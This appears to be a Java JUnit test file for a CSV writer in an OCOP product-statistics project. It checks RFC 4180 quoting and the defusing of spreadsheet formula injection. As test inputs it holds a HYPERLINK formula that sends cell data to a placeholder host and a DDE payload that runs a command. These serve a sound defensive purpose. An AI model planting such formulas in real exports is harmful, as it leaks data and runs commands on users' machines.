package vn.ocop.statistics;

import org.junit.jupiter.api.Test;
import vn.ocop.statistics.control.Csv;

import java.io.StringWriter;
import java.time.LocalDate;
import java.util.Arrays;

import static org.junit.jupiter.api.Assertions.assertEquals;

/** RFC 4180 fields and records. */
class CsvTest {

    @Test
    void plainFieldsAreWrittenAsTheyAre() {
        assertEquals("Mật ong hoa nhãn", Csv.field("Mật ong hoa nhãn"));
        assertEquals("42", Csv.field(42));
        assertEquals("2019-12-05", Csv.field(LocalDate.of(2019, 12, 5)));
        assertEquals("", Csv.field(null));
    }

    @Test
    void commasQuotesLineBreaksAndOuterSpacesAreQuoted() {
        assertEquals("\"Rau, củ\"", Csv.field("Rau, củ"));
        assertEquals("\"Giò \"\"Phùng\"\"\"", Csv.field("Giò \"Phùng\""));
        assertEquals("\"dòng 1\r\ndòng 2\"", Csv.field("dòng 1\r\ndòng 2"));
        assertEquals("\"a\nb\"", Csv.field("a\nb"));
        assertEquals("\" lề\"", Csv.field(" lề"));
    }

    @Test
    void aRecordEndsWithCrlf() {
        StringWriter out = new StringWriter();
        Csv.record(out, Arrays.asList("product_id", "product_name"));
        Csv.record(out, Arrays.asList(7L, "Chè, \"xanh\"", null, 3));
        assertEquals("product_id,product_name\r\n7,\"Chè, \"\"xanh\"\"\",,3\r\n", out.toString());
    }

    @Test
    void textThatASpreadsheetWouldTakeForAFormulaIsNeutralised() {
        assertEquals("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Bấm\"\")\"",
                Csv.field("=HYPERLINK(\"http://x.example/?\"&A1;\"Bấm\")"));
        assertEquals("'+84 912", Csv.field("+84 912"));
        assertEquals("'-2+3", Csv.field("-2+3"));
        assertEquals("'@SUM(A1:A9)", Csv.field("@SUM(A1:A9)"));
        assertEquals("'\tcmd", Csv.field("\tcmd"), "a leading tab no longer counts as outer space once quoted");
        assertEquals("\"'\rcmd\"", Csv.field("\rcmd"), "a carriage return still needs quotes");
        assertEquals("\"'=1+1,2\"", Csv.field("=1+1,2"));
    }

    @Test
    void numbersDatesAndOrdinaryTextAreNotTouched() {
        assertEquals("-5", Csv.field(-5L), "a negative number stays a number");
        assertEquals("-3", Csv.field(-3));
        assertEquals("-1.25", Csv.field(new java.math.BigDecimal("-1.25")));
        assertEquals("2019-12-05", Csv.field(LocalDate.of(2019, 12, 5)));
        assertEquals("Chè = ngon", Csv.field("Chè = ngon"), "only the first character counts");
        assertEquals("OCOP-2019-001", Csv.field("OCOP-2019-001"));
        StringWriter out = new StringWriter();
        Csv.record(out, Arrays.asList(-7L, "=cmd|' /C calc'!A0", 4));
        assertEquals("-7,'=cmd|' /C calc'!A0,4\r\n", out.toString());
    }
}
